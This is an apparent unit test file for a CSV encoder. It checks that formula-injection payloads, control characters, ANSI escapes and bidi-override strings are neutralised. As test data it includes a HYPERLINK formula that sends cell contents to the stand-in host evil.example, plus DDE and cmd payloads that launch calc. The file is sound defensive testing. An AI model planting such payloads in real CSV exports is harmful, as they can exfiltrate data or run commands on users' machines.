import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../test/support/parse-csv.ts';
import { toCsvLine } from './csv.ts';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|calc!A0',
  '-2+3+cmd|calc!D2',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=DDE("cmd";"/C calc";"1")',
  '"=1+1"',
  '","=1+1',
  '"\r\n=1+1,"',
  ';=1+1',
];
const CONTROLS = [
  'line\r\nFAKE,1,2',
  'line\nnext',
  'line\rback',
  '\u001b[2J\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u009b31m',
  'nul\u0000byte',
  'tab\there',
  'back\bspace',
  '\u202Eexe.gpj',
  'line\u2028separator',
  'lone\ud800surrogate',
];
const PLAIN = [
  '',
  'ann',
  'library/alpine:3.20',
  'a,b',
  'a"b',
  "o'neil",
  'größe ✓ 日本',
  '{"digest":"sha256:00"}',
  'a=b',
  'x-y',
];

/** What a spreadsheet does with a cell: it skips blanks, and runs what begins like a formula. */
const RUNS = /^[\s\ufeff\u200b]*[=+\-@\uff0b\uff0d\uff1d\uff20\t\r]/;
const MOVES = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe('a line of CSV', () => {
  it.each([...FORMULAS, ...CONTROLS, ...PLAIN])(
    'is one record whose cells neither run nor move anything: %j',
    (text) => {
      const line = toCsvLine([7, text, 'end']);
      const records = parseCsv(line);
      expect(records).toHaveLength(1);
      const [record = []] = records;
      expect(record).toHaveLength(3);
      expect([record[0], record[2]]).toEqual(['7', 'end']);
      for (const cell of record) {
        expect(cell).not.toMatch(RUNS);
        expect(cell).not.toMatch(MOVES);
      }
      // No reader that splits at line ends before it looks at quotes sees a second line either.
      expect(line.slice(0, -2)).not.toMatch(/[\r\n]/);
    },
  );

  it.each(PLAIN)('keeps what harms nobody as it is: %j', (text) => {
    expect(parseCsv(toCsvLine([text]))).toEqual([[text]]);
  });

  it('shows what it has changed', () => {
    expect(toCsvLine(['=1+1'])).toBe(`"'=1+1"\r\n`);
    expect(toCsvLine(['a\r\nb\u001b[0m\u202e'])).toBe('"a\\r\\nb\\x1b[0m\\u202e"\r\n');
  });
});
